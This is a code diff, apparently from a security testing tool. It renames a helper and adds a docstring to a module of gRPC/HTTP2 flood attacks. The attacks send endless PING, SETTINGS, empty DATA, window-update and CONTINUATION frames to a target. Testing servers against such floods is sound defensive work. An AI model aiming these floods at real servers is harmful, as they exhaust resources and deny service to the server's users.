@@ -111,7 +111,8 @@ async def grpc_half_messages_of_an_account(aim: Aim) -> str:
     return await _half(aim, http2.LIST_PROPOSALS, aim.token)
 
 
-async def _flood(aim: Aim, unit: bytes, *, call: bool = False, begun: bytes = b"") -> str:
+async def flood(aim: Aim, unit: bytes, *, call: bool = False, begun: bytes = b"") -> str:
+    """Send a unit without end; `call`: within a call."""
     until, sent = time.monotonic() + aim.seconds, 0
     closed = 0
     while time.monotonic() < until and sent < MAX_FRAMES:
@@ -133,31 +134,31 @@ async def _flood(aim: Aim, unit: bytes, *, call: bool = False, begun: bytes = b"
 @FAMILY.attack()
 async def grpc_pings(aim: Aim) -> str:
     """A stranger sends pings without end."""
-    return await _flood(aim, frame(http2.PING, data=b"12345678"))
+    return await flood(aim, frame(http2.PING, data=b"12345678"))
 
 
 @FAMILY.attack()
 async def grpc_settings(aim: Aim) -> str:
     """A stranger sends settings without end."""
-    return await _flood(aim, frame(http2.SETTINGS))
+    return await flood(aim, frame(http2.SETTINGS))
 
 
 @FAMILY.attack()
 async def grpc_empty_data(aim: Aim) -> str:
     """An account sends empty data frames of a call without end."""
-    return await _flood(aim, frame(http2.DATA, 0, 1), call=True)
+    return await flood(aim, frame(http2.DATA, 0, 1), call=True)
 
 
 @FAMILY.attack()
 async def grpc_windows(aim: Aim) -> str:
     """A stranger sends updates of the connection's window without end."""
-    return await _flood(aim, frame(http2.WINDOW, 0, 0, b"\0\0\0\1"))
+    return await flood(aim, frame(http2.WINDOW, 0, 0, b"\0\0\0\1"))
 
 
 @FAMILY.attack()
 async def grpc_continuations(aim: Aim) -> str:
     """A stranger sends a call's header fields in empty pieces without end."""
-    return await _flood(aim, frame(http2.CONTINUATION, 0, 1), begun=frame(http2.HEADERS, 0, 1))
+    return await flood(aim, frame(http2.CONTINUATION, 0, 1), begun=frame(http2.HEADERS, 0, 1))
 
 
 @FAMILY.attack()
